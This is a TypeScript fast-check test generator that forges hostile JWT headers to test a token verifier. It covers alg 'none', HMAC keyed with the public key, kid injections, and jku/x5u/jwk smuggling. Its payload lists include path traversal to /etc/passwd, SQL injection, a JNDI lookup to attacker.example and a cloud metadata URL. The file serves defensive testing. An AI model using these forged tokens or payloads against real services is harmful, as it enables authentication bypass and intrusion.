/**
 * Forged and hostile JWS headers over valid claims.
 *
 * @module
 */
import { createHash } from 'node:crypto';
import fc from 'fast-check';
import { b64u, jsonSegment, jws, type TokenKey } from './keys.ts';
import type { BadToken, TokenSources } from './types.ts';

const EVIL_URL = fc.constantFrom(
  'https://attacker.example/.well-known/jwks.json',
  'http://127.0.0.1:1/jwks.json',
  'http://169.254.169.254/latest/meta-data/',
  'file:///etc/passwd',
  'data:application/json,{"keys":[]}',
);

const KID_INJECTIONS = [
  '../../../../etc/passwd',
  '../../dev/null',
  '/dev/zero',
  '..\\..\\windows\\win.ini',
  'file:///etc/passwd',
  "x' OR '1'='1",
  "'; DROP TABLE kit_sessions; --",
  '" OR ""="',
  '1; SELECT pg_sleep(10)',
  '%00',
  '\u0000',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: a log-injection payload, meant literally.
  '${jndi:ldap://attacker.example/a}',
  '{{7*7}}',
  '<script>alert(1)</script>',
  '__proto__',
  'constructor',
  'hasOwnProperty',
  '\u202egnp.kid',
];

/**
 * Forged and hostile headers over valid claims: `alg: none` in every spelling, HS256/384/512
 * keyed with the public key (its JWK, its thumbprint input, PEM and DER SPKI, its `x`), unknown
 * and odd algorithm names, `kid` paths and injections (SQL, path traversal, very long, NUL, a
 * near miss of the real kid, the kid of another key), key smuggling (`jwk`, `jku`, `x5u`, `x5c`)
 * signed by an attacker, `crit`, `b64`, wrong `typ`, nested JWTs (`cty: JWT`).
 */
export function forgedHeaderArb(src: TokenSources): fc.Arbitrary<BadToken> {
  const issuer = fc.constantFrom(...src.issuerKeys);
  const attacker = fc.constantFrom(...src.attackerKeys);
  const payload = jsonSegment(src.claims);
  const header = (key: TokenKey, extra: Record<string, unknown>) => {
    const h: Record<string, unknown> = { alg: key.alg, kid: key.kid, typ: 'at+jwt', ...extra };
    for (const name of Object.keys(h)) if (h[name] === undefined) delete h[name];
    return jsonSegment(h);
  };
  const signed = (kind: string, key: TokenKey, extra: Record<string, unknown>, by: TokenKey = key) => ({
    kind,
    token: jws(header(key, extra), payload, { key: by }),
  });
  const hmacSecrets = (key: TokenKey): (string | Uint8Array)[] => {
    const jwk = key.jwk;
    const members =
      key.alg.startsWith('RS') || key.alg.startsWith('PS') ? ['e', 'kty', 'n'] : ['crv', 'kty', 'x', 'y'];
    const thumbprintInput = JSON.stringify(
      Object.fromEntries(members.filter((m) => m in jwk).map((m) => [m, jwk[m]])),
    );
    return [
      JSON.stringify(jwk),
      thumbprintInput,
      key.publicKey.export({ type: 'spki', format: 'pem' }) as string,
      key.publicKey.export({ type: 'spki', format: 'der' }),
      String(jwk.x ?? jwk.n),
      JSON.stringify({ keys: [jwk] }),
      '',
    ];
  };

  // The kid of another published key (of the same or another algorithm), signed by this one.
  const pairs = src.issuerKeys.flatMap((key) =>
    src.model.keys.filter((k) => k !== key).map((other) => [key, other] as const),
  );
  const otherKid = pairs.length
    ? [
        fc
          .constantFrom(...pairs)
          .map(([key, other]) => signed(`kid of another key (${other.kid})`, key, { kid: other.kid })),
      ]
    : [];

  return fc.oneof(
    ...otherKid,
    fc
      .tuple(issuer, fc.constantFrom('none', 'None', 'NONE', 'nOnE'), fc.constantFrom('', 'AAAA', 'c2ln'))
      .map(([key, alg, signature]) => ({
        kind: `alg ${alg}`,
        token: jws(header(key, { alg }), payload, { signature }),
      })),
    fc.tuple(issuer, fc.constantFrom('HS256', 'HS384', 'HS512'), fc.nat()).map(([key, alg, i]) => {
      const secrets = hmacSecrets(key);
      const hash = `sha${alg.slice(2)}` as 'sha256' | 'sha384' | 'sha512';
      return {
        kind: `${alg} keyed with the public key (form ${i % secrets.length})`,
        token: jws(header(key, { alg }), payload, { hmac: secrets[i % secrets.length]!, hash }),
      };
    }),
    fc
      .tuple(
        issuer,
        fc.constantFrom<unknown>(
          'ES256 ',
          ' ES256',
          'es256',
          'ES256\u0000',
          'ES512',
          'RS512',
          'PS384',
          'Ed25519',
          'Ed448',
          'ECDH-ES',
          'dir',
          'RSA-OAEP',
          '__proto__',
          'constructor',
          'toString',
          '',
          null,
          1,
          ['ES256'],
          {},
          true,
        ),
      )
      .map(([key, alg]) => signed(`alg ${JSON.stringify(alg)}`, key, { alg })),
    fc
      .tuple(
        issuer,
        fc.oneof(
          fc.constantFrom<unknown>(...KID_INJECTIONS, '', null, 7, ['kid'], {}),
          fc.integer({ min: 100, max: 9000 }).map((n) => 'k'.repeat(n)),
        ),
      )
      .map(([key, kid]) => signed('kid injection', key, { kid })),
    fc
      .tuple(issuer, fc.constantFrom(' ', '\u0000', '\u200f', '/', '/../'), fc.boolean())
      .map(([key, extra, before]) =>
        signed('near miss of the real kid', key, {
          kid: before ? `${extra}${key.kid}` : `${key.kid}${extra}`,
        }),
      ),
    fc.tuple(issuer, attacker, fc.constantFrom('attacker', 'issuer', 'none')).map(([key, evil, kidOf]) =>
      signed(`signed by an unknown key, kid of the ${kidOf}`, evil, {
        kid: kidOf === 'attacker' ? evil.kid : kidOf === 'issuer' ? key.kid : undefined,
      }),
    ),
    fc
      .tuple(
        issuer,
        attacker,
        fc.constantFrom('attacker', 'issuer', 'none'),
        fc.subarray(['jwk', 'jku', 'x5u', 'x5c', 'x5t'] as const, { minLength: 1 }),
        EVIL_URL,
      )
      .map(([key, evil, kidOf, members, url]) => {
        const extra: Record<string, unknown> = {
          kid: kidOf === 'attacker' ? evil.kid : kidOf === 'issuer' ? key.kid : undefined,
        };
        const der = evil.publicKey.export({ type: 'spki', format: 'der' });
        for (const name of members) {
          if (name === 'jwk') extra.jwk = evil.jwk;
          if (name === 'jku' || name === 'x5u') extra[name] = url;
          if (name === 'x5c') extra.x5c = [der.toString('base64')];
          if (name === 'x5t') extra.x5t = b64u(createHash('sha1').update(der).digest());
        }
        return signed(`${members.join('+')} smuggled, kid of the ${kidOf}`, evil, extra);
      }),
    fc
      .tuple(
        issuer,
        fc.constantFrom<unknown>(['exp'], ['b64'], [], ['jku'], ['kid'], 'exp', null, 0),
        fc.constantFrom<unknown>(undefined, false, true),
      )
      .map(([key, crit, b64]) => signed('crit', key, { crit, b64 })),
    fc
      .tuple(issuer, fc.constantFrom<unknown>(false, 'false', 0, null, 'true'))
      .map(([key, b64]) => signed(`b64 ${JSON.stringify(b64)}`, key, { b64 })),
    fc
      .tuple(
        issuer,
        fc.constantFrom<unknown>(
          'JWT',
          'jwt',
          'at+jwt ',
          ' at+jwt',
          'at+jwt\u0000',
          'at+jwt\u200f',
          'application/jwt',
          'application/at+jwt; charset=utf-8',
          'id_token+jwt',
          'logout+jwt',
          'secevent+jwt',
          'dpop+jwt',
          'at+jws',
          'at-jwt',
          '',
          undefined,
          null,
          1,
          ['at+jwt'],
        ),
      )
      .map(([key, typ]) => signed(`typ ${JSON.stringify(typ)}`, key, { typ })),
    fc
      .tuple(issuer, fc.constantFrom('raw', 'JSON string', 'JSON object'), fc.constantFrom('at+jwt', 'JWT'))
      .map(([key, form, typ]) => {
        // The inner token is itself valid: a verifier that unwrapped `cty: JWT` would accept it.
        const inner = jws(header(key, {}), payload, { key });
        const p =
          form === 'raw'
            ? b64u(inner)
            : form === 'JSON string'
              ? jsonSegment(inner)
              : jsonSegment({ jwt: inner });
        return {
          kind: `nested JWT (${form}), typ ${typ}`,
          token: jws(header(key, { cty: 'JWT', typ }), p, { key }),
        };
      }),
  );
}
